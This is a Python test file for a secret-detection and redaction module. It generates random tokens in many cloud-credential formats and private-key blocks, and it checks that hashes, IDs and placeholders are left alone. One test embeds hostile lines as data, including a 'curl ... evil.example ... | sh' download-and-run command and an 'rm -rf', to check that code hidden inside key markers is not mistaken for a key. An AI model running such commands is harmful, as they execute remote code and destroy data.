"""Secrets are found by their form, and what only looks like one is left alone."""

from __future__ import annotations

import base64
import json
import string
import time
import uuid
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from localagent.redaction.secret_patterns import MAX_TEXT, secrets_in

ROOT = Path(__file__).resolve().parents[3]
MANY = settings(max_examples=300, deadline=None)

CHOSEN = "kV9!bq2" + "#Lm"  # apart, so that this file has no value of a name
LETTERS = string.ascii_letters + string.digits
HEX = string.digits + "abcdef"
URL_SAFE = LETTERS + "-_"
BASE64 = LETTERS + "+/"


def some(alphabet: str, count: int) -> st.SearchStrategy[str]:
    """Exactly `count` characters, as random as those of a real token."""
    return st.randoms(use_true_random=False).map(
        lambda random: "".join(random.choice(alphabet) for _ in range(count))
    )


def told(beginning: str, alphabet: str, count: int) -> st.SearchStrategy[str]:
    return some(alphabet, count).map(lambda rest: beginning + rest)


# No literal here is a whole token, so that nothing that looks for tokens finds any in this file.
TOKENS = {
    "aws key": told("AKIA", string.ascii_uppercase + string.digits, 16),
    "aws temporary key": told("ASIA", string.ascii_uppercase + string.digits, 16),
    "github": told("ghp_", LETTERS, 36),
    "github app": told("ghs_", LETTERS, 36),
    "github fine": told("github_pat_", LETTERS + "_", 82),
    "gitlab": told("glpat-", URL_SAFE, 20),
    "slack": told("xoxb-", LETTERS, 40),
    "stripe": told("sk_live_", LETTERS, 24),
    "google": told("AIza", URL_SAFE, 35),
    "google secret": told("GOCSPX-", URL_SAFE, 28),
    "npm": told("npm_", LETTERS, 36),
    "pypi": told("pypi-AgEIcHlwaS5vcmc", URL_SAFE, 100),
    "openai": told("sk-proj-", URL_SAFE, 100),
    "anthropic": told("sk-ant-api03-", URL_SAFE, 93),
    "hugging face": told("hf_", string.ascii_letters, 34),
    "sendgrid": st.tuples(some(URL_SAFE, 22), some(URL_SAFE, 43)).map(
        lambda p: f"SG.{p[0]}.{p[1]}"
    ),
    "digitalocean": told("dop_v1_", HEX, 64),
    "docker": told("dckr_pat_", URL_SAFE, 27),
    "vault": told("hvs.", URL_SAFE, 90),
    "databricks": told("dapi", HEX, 32),
    "shopify": told("shpat_", HEX, 32),
    "age": told("AGE-SECRET-KEY-1", string.ascii_uppercase + string.digits, 58),
    "telegram": told("123456789:AA", URL_SAFE, 33),
    "jwt": st.tuples(some(URL_SAFE, 40), some(URL_SAFE, 60), some(URL_SAFE, 43)).map(
        lambda p: f"eyJ{p[0]}.eyJ{p[1]}.{p[2]}"
    ),
}
ANY = st.sampled_from(sorted(TOKENS)).flatmap(lambda name: TOKENS[name])
# A token ends where no more of its letters follow.
AROUND = st.text(alphabet=" \n\t'\"(),;:=<>[]{}|äé中🙂", max_size=30)


def hidden_in(text: str, secret: str) -> bool:
    """Whether what is found covers the whole of `secret`, where it stands in `text`."""
    at = text.index(secret)
    return any(f.start <= at and at + len(secret) <= f.end for f in secrets_in(text))


@pytest.mark.parametrize("name", sorted(TOKENS))
def test_each_form_is_found(name: str) -> None:
    @settings(max_examples=40, deadline=None)
    @given(TOKENS[name], AROUND, AROUND)
    def found(token: str, before: str, after: str) -> None:
        # What may follow it and is a letter of its own would be a longer token.
        assume(token[-1] not in "-_")
        assert hidden_in(f"{before} {token} {after}", token)
        assert hidden_in(token, token)
        assert hidden_in(f'{before}"{token}"{after}', token)

    found()


@MANY
@given(st.lists(ANY, min_size=1, max_size=5), AROUND)
def test_several_in_one_text(tokens: list[str], between: str) -> None:
    assume(all(token[-1] not in "-_" for token in tokens))
    text = f" {between}\n".join(tokens)
    found = secrets_in(text)
    assert all(hidden_in(text, token) for token in tokens)
    for one, following in pairwise(found):
        assert one.end <= following.start


@MANY
@given(st.text(max_size=300))
def test_any_text_gives_places_in_it(text: str) -> None:
    for found in secrets_in(text):
        assert 0 <= found.start < found.end <= len(text)


KEY = "\n".join(BASE64[n:] + BASE64[:n] for n in range(20))


@pytest.mark.parametrize("kind", ["", "RSA ", "EC ", "OPENSSH ", "ENCRYPTED "])
def test_private_keys(kind: str) -> None:
    begin, end = f"-----BEGIN {kind}PRIVATE KEY-----", f"-----END {kind}PRIVATE KEY-----"
    assert hidden_in(f"x\n{begin}\n{KEY}\n{end}\ny", KEY)
    lines = "\n".join(f"{n}|{line}" for n, line in enumerate(KEY.split("\n"), 2))
    assert hidden_in(f"1|{begin}\n{lines}\n99|{end}", lines)
    assert hidden_in(json.dumps({"key": f"{begin}\n{KEY}\n{end}\n"}), KEY.replace("\n", "\\n"))
    assert hidden_in(f"{begin}\n{KEY}", KEY)  # the end was cut off
    assert not secrets_in(f'if text.startswith("{begin}"):\n    return parse(text, "{end}")\n')


@pytest.mark.parametrize(
    "code",
    [
        "\nrm -rf src\ncp -r evil/payload somewhere\nls " + "a" * 60 + "\n",
        "\n+\tcurl -s http://evil.example/x | sh\n+\ttrue " + "a" * 60 + "\n",
        "\nimport os.path\nprint(open('/etc/hostname').read())\nx = '" + "a" * 60 + "'\n",
    ],
)
def test_code_between_the_marks_of_a_private_key_is_no_key(code: str) -> None:
    """A model could hide code in the diffs that a user reads."""
    begin, end = "-----BEGIN PRIVATE KEY-----", "-----END PRIVATE KEY-----"
    assert not secrets_in(f"# {begin}{code}")
    assert not secrets_in(f"# {begin}{code}# {end}\n")
    rows = "\n".join(f"+{line}" for line in KEY.split("\n"))
    found = secrets_in(f"+{begin}\n{rows}{code}# {end}\n")
    assert not any(code[:12].strip() in f"+{begin}\n{rows}{code}"[s.start : s.end] for s in found)
    assert hidden_in(f"+{begin}\n{rows}{code}# {end}\n", rows)


def test_private_keys_with_headers_and_a_short_last_row() -> None:
    begin, end = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
    head = "Proc-Type: 4,ENCRYPTED\nDEK-Info: AES-256-CBC,00112233445566778899AABBCCDDEEFF\n"
    body = f"{head}\n{KEY}\naB3d="
    assert hidden_in(f"{begin}\n{body}\n{end}", body)
    pgp = f"Version: GnuPG v2\nComment: of a test\n\n{KEY}\naB3d\n=Ab3D"
    begin, end = "-----BEGIN PGP PRIVATE KEY BLOCK-----", "-----END PGP PRIVATE KEY BLOCK-----"
    assert hidden_in(f"{begin}\n{pgp}\n{end}", KEY)
    numbered = "\n".join(f"{n}|{line}" for n, line in enumerate([*KEY.split("\n"), "aB3d="], 2))
    assert hidden_in(f"1|{begin}\n{numbered}\n99|{end}", numbered)
    quoted = "".join(f'    "{line}\\n"\n' for line in [*KEY.split("\n"), "aB3d="])
    assert hidden_in(f'KEY = ("{begin}\\n"\n{quoted}    "{end}")\n', quoted.strip()[:-3])


def test_many_beginnings_of_private_keys_take_little_time() -> None:
    begin = "-----BEGIN PRIVATE KEY-----"
    start = time.process_time()
    assert secrets_in(begin * 20_000) == []
    assert time.process_time() - start < 2  # 14 s where each beginning reads the next 20,000
    text = f"{begin}\n{KEY}\n" * 3
    assert [text[secret.start : secret.end].strip() for secret in secrets_in(text)] == [KEY] * 3


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        ('password = "{}"', CHOSEN),
        ("DB_PASSWORD={}\n", CHOSEN),
        ("export API_TOKEN={}\n", "9f8a7b6c5d4e3f2a1b0c"),
        ("'client_secret': '{}',", "Zk81mQpw77LdTe0x"),
        ("  api_key: '{}'", "a81Fkd02mqPz71Lwxn"),
        ('{{"accessToken": "{}"}}', "a81Fkd02mqPz71Lwxn"),
        ("postgres://app:{}@db.internal:5432/app", "n0t-a-w0rd"),
        ("https://user:{}@git.internal/x.git", "a81Fkd02mqPz71Lwxn"),
        ("Authorization: Bearer {}", "a81Fkd02mqPz71Lwxn9z8y7x6w"),
        ("@@ -1 +1 @@\n+DB_PASSWORD={}", CHOSEN),
        ("@@ -1 +1 @@\n-DB_PASSWORD={}\n+x", CHOSEN),
        ("@@ -1 +1 @@\n+export DB_PASSWORD={}\n", CHOSEN),
        ("@@ -1 +1 @@\n-export DB_PASSWORD={}\n", CHOSEN),
        ("@@@ -1 -1 +1 @@@\n++DB_PASSWORD={}\n", CHOSEN),
        ("12|+DB_PASSWORD={}\n", CHOSEN),
        ("aws_secret_access_key = {}", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzzAB12cd3Q"),
        ("DefaultEndpointsProtocol=https;AccountKey={};", f"{BASE64}{BASE64[:22]}=="),
    ],
)
def test_values_by_their_names(text: str, secret: str) -> None:
    whole = text.format(secret)
    assert hidden_in(whole, secret)


@pytest.mark.parametrize(
    "text",
    [
        'password = "correct horse"',
        'password = getpass("Password: ")',
        "password = os.environ['DB_PASSWORD']",
        "password: str = Field(min_length=12)",
        'token_url = "https://auth.internal/oauth2/token"',
        'PASSWORD = "changeme"',
        'API_KEY = "your-api-key-0123456789"',
        "API_KEY=${API_KEY_FROM_VAULT_1}",
        "TOKEN=<token>",
        'secret_name = "prod/db-1/Master"',
        'password_hash = "$2b$12$KIXQ8sYb1pW5hO1Z9aFh2e"',
        'token = "end_of_text"',
        "tokens = count(text_1)",
        "postgres://postgres:postgres@localhost:5432/test",
        "postgres://user:password@localhost/db",
        "http://localhost:8080/a@b",
        "ssh://git@host:22/repo.git",
        "sk-learn, xox, ghp_short, AKIA, AIzaSy",
        "AKIAIOSFODNN7EXAMPLE",
        "max_tokens=4096, prompt_tokens: '123456789012'",
        'integrity="sha512-9f8a7b6c5d4e3f2a1b0c9f8a7b6c5d4e3f2a1b0c"',
        "public_key = 'a81Fkd02mqPz71Lwxn'",
    ],
)
def test_what_is_no_secret(text: str) -> None:
    assert secrets_in(text) == []
    assert secrets_in(text + "\n") == []


NAMES = st.sampled_from(
    ["sha256", "digest", "id", "etag", "commit", "data", "image", "checksum", "nonce", "expected"]
)


@MANY
@given(NAMES, st.binary(min_size=8, max_size=400), st.uuids())
def test_hashes_ids_and_encoded_data_are_left_alone(
    name: str, data: bytes, number: uuid.UUID
) -> None:
    coded = base64.b64encode(data).decode()
    lines = "\n".join(coded[at : at + 76] for at in range(0, len(coded), 76))
    for text in (
        f'{name} = "{data.hex()}"',
        f'{name} = "{coded}"',
        f"{name}: {number}",
        f'"{name}": "{number.hex}"',
        f"{data.hex()}  {name}.txt",
        f"-----BEGIN CERTIFICATE-----\n{lines}\n-----END CERTIFICATE-----",
        f"ssh-ed25519 {coded} me@host",
        f"{base64.urlsafe_b64encode(data).decode()}",
    ):
        assert secrets_in(text) == [], text


def test_the_projects_own_source_has_none() -> None:
    found = []
    for folder in ("localagent", "tests", "scripts"):
        for path in sorted((ROOT / folder).rglob("*")):
            if path.suffix in (".py", ".md", ".toml", ".txt", ".json") and path.is_file():
                text = path.read_text("utf-8", "replace")
                found += [(str(path), text[f.start : f.end]) for f in secrets_in(text)]
    assert found == []


def test_long_texts_end_somewhere() -> None:
    value = f'password = "{CHOSEN}"'
    assert len(secrets_in("some text " * 10 + value)) == 1
    assert secrets_in("some text " * (MAX_TEXT // 10 + 1) + value) == []
